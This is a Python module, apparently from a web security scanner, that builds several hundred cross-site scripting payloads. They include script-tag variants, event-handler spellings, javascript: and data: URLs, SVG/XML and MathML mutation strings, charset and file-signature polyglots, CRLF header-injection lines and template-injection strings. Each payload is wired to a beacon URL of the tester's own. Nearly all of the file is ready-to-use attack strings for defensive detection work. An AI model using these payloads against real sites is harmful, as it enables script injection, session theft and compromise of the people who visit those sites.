"""Texts that become a script where a browser takes them for more than text.

Each is made of one beacon, JavaScript that tells the test's own server that it ran, wrapped in one
of the ways that HTML, SVG, XML, URLs, character encodings, sniffed types, injected fields, JSON,
event streams and templates offer. The beacon leaves the document, which neither a sandbox nor a
policy can forbid to a script that runs, so it is seen wherever it does.
"""

import base64
import itertools
from typing import NamedTuple
from urllib.parse import quote


class Payload(NamedTuple):
    number: int
    family: str
    data: bytes

    def __repr__(self):
        return f"{self.family} {self.number} {self.data!r}"


SCRIPT = "<script>JS</script>"
IMAGE = "<img src=x: onerror=JS>"
SVG = "<svg onload=JS>"

SCRIPTS = [
    SCRIPT, "<SCRIPT>JS</SCRIPT>", "<ScRiPt >JS</sCrIpT >", "<script/x>JS</script/y>",
    "<script\t>JS</script\t>", "<script\n>JS</script\n>", "<script\f>JS</script\f>",
    "<script type=text/javascript>JS</script>", "<script type=module>JS</script>",
    "<script async defer>JS</script>", "<script x='>'>JS</script>", "<svg><script>JS</script>",
    "<svg><script>JS</script></svg><p>", "<<script>JS//<</script>", "<script>\ufeffJS</script>",
    "<script src='data:text/javascript,JS'></script>", "<script>/*</title>*/JS</script>",
    "<script>eval('JS')</script>", "<script>setTimeout('JS')</script>",
    "<script>Function('JS')()</script>", "<script>(()=>{JS})()</script>",
    "<script><!--\nJS\n--></script>", "<script>\u2028JS\u2028</script>",
]

# What closes the place that a text may have been written into.
PREFIXES = [
    '">', "'>", "`>", ">", "-->", "--!>", "]]>", "?>", "%>", "</script>", "</title>", "</style>",
    "</textarea>", "</pre>", "</xmp>", "</noscript>", "</iframe>", "</select>", "</template>",
    "</svg>", "</math>", "*/-->'\"></script>", "\"}]}", "'); ", "\\\"><", "\x00>", "&gt;",
]

HANDLERS = [
    "<img src=x: on=error JS>", "<svg on=load JS>", "<body on=load JS>", "<body on=pageshow JS>",
    "<iframe src=about:blank on=load JS></iframe>", "<video on=error JS><source src=x:></video>",
    "<video src=x: on=error JS></video>", "<audio src=x: on=error JS></audio>",
    "<object data=x: on=error JS></object>", "<embed src=about:blank on=load JS>",
    "<input autofocus on=focus JS>", "<textarea autofocus on=focus JS></textarea>",
    "<select autofocus on=focus JS></select>", "<button autofocus on=focus JS>x</button>",
    "<a href=# tabindex=1 autofocus on=focus JS>x</a>", "<p tabindex=1 autofocus on=focus JS>x</p>",
    "<details open on=toggle JS>x</details>", "<marquee on=start JS>x</marquee>",
    "<style on=load JS></style>", "<link rel=stylesheet href=x: on=error JS>",
    "<script src=x: on=error JS></script>", "<input type=image src=x: on=error JS>",
    "<image src=x: on=error JS>", "<svg><image href=x: on=error JS></svg>",
    "<svg><animate on=begin JS attributeName=x dur=1s></svg>",
    "<svg><set on=begin JS attributeName=x dur=1s></svg>",
    "<style>@keyframes k{}</style><p style=animation-name:k on=animationstart JS>x</p>",
    "<math><mi on=click JS>x</mi></math><img src=x: on=error JS>",
    "<picture><img srcset=x: on=error JS></picture>", "<frameset on=load JS><frame></frameset>",
    "<video autoplay on=loadstart JS><source src=data:,></video>",
    "<noscript><p title='</noscript><img src=x: on=error JS>'>",
    "<table background=x:><tr><td><img src=x: on=error JS></table>",
]

# (handler's name and value) in the ways of writing an attribute.
SPELLINGS = [
    lambda event: f"on{event}=JS",
    lambda event: f'oN{event.upper()}="JS"',
    lambda event: f"\non{event}\t=\n'JS'",
    lambda event: f"/on{event}=&#x6c;&#111;cation&equals;URL",
    lambda event: f"x='1'on{event}=self['loc'+'ation']=URL",
]

CARRIERS = [
    "<iframe src='%s'></iframe>", "<object data='%s'></object>", "<embed src='%s'>",
    "<meta http-equiv=refresh content='0;url=%s'>", "<base href='%s'><script src=/></script>",
    "<link rel=stylesheet href='%s'>", "<link rel=import href='%s'>", "<a href='%s'>x</a>",
    "<form action='%s'><input autofocus onfocus=form.submit()></form>",
    "<svg><a href='%s'><text>x</text></a><use href='%s#x'/></svg>", "%s",
]

URLS = [
    "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "\x01javascript:JS", "&#106;avascript:JS",
    "javascript&colon;JS", "data:text/html,<script>JS</script>", "vbscript:JS",
    "data:image/svg+xml,<svg xmlns=`http://www.w3.org/2000/svg` onload=JS>",
    "view-source:javascript:JS",
]

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
HTML_NS = 'xmlns="http://www.w3.org/1999/xhtml"'

XML = [
    f"<svg {SVG_NS}><script>JS</script></svg>", f"<svg {SVG_NS} onload=\"JS\"/>",
    f"<?xml version=\"1.0\"?><svg {SVG_NS}><script>JS</script></svg>",
    f"<svg {SVG_NS}><script x:href=\"data:text/javascript,JS\"/></svg>",
    f"<svg {SVG_NS}><animate onbegin=\"JS\" attributeName=\"x\" dur=\"1s\"/></svg>",
    f"<svg {SVG_NS}><foreignObject><body {HTML_NS} onload=\"JS\"/></foreignObject></svg>",
    f"<svg {SVG_NS}><handler>JS</handler><script><![CDATA[JS]]></script></svg>",
    f"<html {HTML_NS}><script>JS</script></html>",
    f"<html {HTML_NS}><body onload=\"JS\"/></html>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    f"<!DOCTYPE x [<!ENTITY e \"JS\">]><script {HTML_NS}>&e;</script>",
    "<a><b:script xmlns:b='http://www.w3.org/1999/xhtml'>JS</b:script></a>",
    "<?xml-stylesheet type='text/xsl' href='data:text/xsl,<script>JS</script>'?><x/>",
    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    f"<xsl:template match='/'><script {HTML_NS}>JS</script></xsl:template></xsl:stylesheet>",
    f"<math xmlns='http://www.w3.org/1998/Math/MathML'><script {HTML_NS}>JS</script></math>",
    f"<rss version='2.0'><channel><script {HTML_NS}>JS</script></channel></rss>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>" + IMAGE + "'>",
]


def utf7(text):
    return text.replace("<", "+ADw-").replace(">", "+AD4-").encode()


def overlong(text):
    return text.encode().replace(b"<", b"\xc0\xbc").replace(b">", b"\xc0\xbe")


ENCODINGS = {
    "utf-7": utf7, "utf-7 with its mark": lambda text: b"+/v8-" + utf7(text),
    "utf-16-le": lambda text: text.encode("utf-16-le"),
    "utf-16-be": lambda text: text.encode("utf-16-be"),
    "utf-16-le, bom": lambda text: b"\xff\xfe" + text.encode("utf-16-le"),
    "utf-16-be, bom": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
    "utf-32": lambda text: text.encode("utf-32"),
    "utf-8, bom": lambda text: b"\xef\xbb\xbf" + text.encode(),
    "overlong": overlong, "ebcdic": lambda text: text.encode("cp037"),
    "nulls between": lambda text: b"\0".join(bytes([byte]) for byte in text.encode()),
    "nulls in tags": lambda text: text.encode().replace(b"<", b"<\0"),
    "high bit": lambda text: text.encode().replace(b"<", b"\xbc").replace(b">", b"\xbe"),
    "iso-2022-jp": lambda text: b"\x1b$B\x1b(B" + text.encode() + b"\x1b$B",
    "shift_jis": lambda text: b'"\x81' + b'">' + text.encode(), "hz": lambda text: b"~{~}"
    + text.encode(), "percent": lambda text: quote(text, safe="").encode(),
    "percent twice": lambda text: quote(quote(text, safe=""), safe="").encode(),
    "entities": lambda text: "".join(f"&#{ord(c)};" for c in text).encode(),
    "json": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e").encode(),
    "fullwidth": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e").encode(),
}

SIGNATURES = [
    b"GIF89a", b"GIF89a/*", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"%PDF-1.7\n", b"BM",
    b"PK\3\4", b"RIFF\0\0\0\0WEBPVP", b"\x1f\x8b\x08", b"OggS\0", b"\0\0\0\x18ftypmp42", b"wOFF",
    b"%!PS-Adobe-",
    b"\xff\xfe", b"<!DOCTYPE html>", b"<html>", b"<HEAD>", b"<!-- -->", b"<?xml?>",
    b"<TITLE>x</TITLE>", b" \t\r\n" * 200, b"MZ\x90\0", b"\x7fELF", b"#!/bin/sh\n", b"From: x\n\n",
]

LINE_ENDS = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "%0D", "\u560d\u560a", "\x85", "\u2028",
             "%E5%98%8D%E5%98%8A", "\\r\\n", "\x0b", "\x00\r\n"]

# Each | is one of LINE_ENDS.
INJECTIONS = [
    "x|Content-Type: text/html||" + SCRIPT,
    "x||HTTP/1.1 200 OK|Content-Type: text/html||" + SCRIPT,
    "x|Content-Type: text/html|Content-Security-Policy: script-src *|X-Content-Type-Options: x||"
    + SCRIPT, "x|Transfer-Encoding: chunked|Content-Type: text/html||20|" + SCRIPT,
    "x|Refresh: 0;url=javascript:JS|Location: javascript:JS||",
]

JSON = [
    '"}' + SCRIPT, '\\"}' + SCRIPT, '"]}' + SCRIPT, '"},"x":"' + SCRIPT,
    '\\u003cscript>JS</script>', '</script >' + SCRIPT, '";JS;//', "';JS;//", '\\";JS;//',
    ");JS;//", "*/JS/*", "`-JS-`", "${JS}", "JS", "JS//", ";JS", "\nJS\n",
    "/**/JS", "callback(JS)", "x=JS", '"+(JS)+"', "\u2028JS\u2028",
    '{"__proto__":{"innerHTML":"' + IMAGE + '"}}', '["' + SCRIPT + '"]', "while(1);" + SCRIPT,
    "import('data:text/javascript,JS')", "self.onmessage=JS;postMessage(1)",
]

EVENT_STREAM = ["\n\ndata: " + SCRIPT + "\n\n", "\r\rdata: " + IMAGE, "data: x\nevent: " + SVG,
                "id: " + SCRIPT + "\n", "retry: 0\n\n" + SCRIPT, ": " + SCRIPT + "\n\n",
                "\ufeffdata: JS\n\n", "data: \"}" + SCRIPT + "\n\nevent: error\n\n"]

TEMPLATES = [
    "{{constructor.constructor('JS')()}}", "{{=JS}}", "<%= JS %>", "#{JS}", "[[${JS}]]", "{%JS%}",
    "<p ng-app ng-init=constructor.constructor('JS')()>", "<p v-html='\"" + IMAGE + "\"'>",
    "<p x-data x-init=JS>", "<template shadowrootmode=open>" + IMAGE + "</template>",
    "<style>@import 'javascript:JS';</style>", "<p style='background:url(javascript:JS)'>",
    "<p style='width:expression(JS)'>", "<style>*{x:expression(JS)}</style>",
    "<iframe srcdoc='" + SCRIPT + "'></iframe>", "<iframe srcdoc='&lt;svg onload=JS&gt;'></iframe>",
    "<img src=x: title='" + IMAGE + "' onerror=outerHTML=title>",
]

POLYGLOTS = [
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/"
    "+/[*/[]/+JS//'>",
    "'\">><marquee><img src=x: onerror=JS></marquee>\"></plaintext></|><plaintext/onmouseover=1>",
    "GIF89a=0/*<svg onload=JS>*/;JS", "%PDF-1.4=0//" + SCRIPT + "\n%%EOF",
    "\"'--></style></script>{{1}}<svg/onload=JS>//\\u003c", "/*`*/JS//`</script>" + IMAGE,
]


def texts():
    """(family, text with JS for the beacon and URL for its address, encoder) of each."""
    plain = str.encode
    for family, group in [("script", SCRIPTS), ("xml", XML), ("json", JSON),
                          ("polyglot", POLYGLOTS), ("event stream", EVENT_STREAM),
                          ("template", TEMPLATES)]:
        yield from ((family, text, plain) for text in group)
    for prefix, text in itertools.product(PREFIXES, [SCRIPT, IMAGE, SVG]):
        yield "break-out", prefix + text, plain
    for text, spell in itertools.product(HANDLERS, SPELLINGS):
        head, _, rest = text.partition("on=")
        event, _, tail = rest.partition(" JS")
        # Where the same text has it twice, the second is for documents that ignore the first.
        yield "handler", head + spell(event) + tail.replace("on=error JS", "onerror=JS"), plain
    for carrier, url in itertools.product(CARRIERS, URLS):
        yield "url", carrier.replace("%s", url), plain
    for carrier in CARRIERS:
        yield "url", SCRIPT, lambda text, carrier=carrier: carrier.replace(
            "%s", "data:text/html;base64," + base64.b64encode(text.encode()).decode()).encode()
    for encode, text in itertools.product(ENCODINGS.values(), [SCRIPT, IMAGE]):
        yield "encoding", text, encode
    for signature, text in itertools.product(SIGNATURES, [SCRIPT, SVG]):
        yield "signature", text, lambda text, signature=signature: signature + text.encode()
    for text, end in itertools.product(INJECTIONS, LINE_ENDS):
        yield "injection", text.replace("|", end), plain


def payloads(beacon_url):
    """All of them, each with a number of its own behind `beacon_url`."""
    made = []
    for number, (family, text, encode) in enumerate(texts()):
        url = f"`{beacon_url}{number}`"
        text = text.replace("JS", f"location={url}").replace("URL", url)
        made.append(Payload(number, family, encode(text)))
    return made
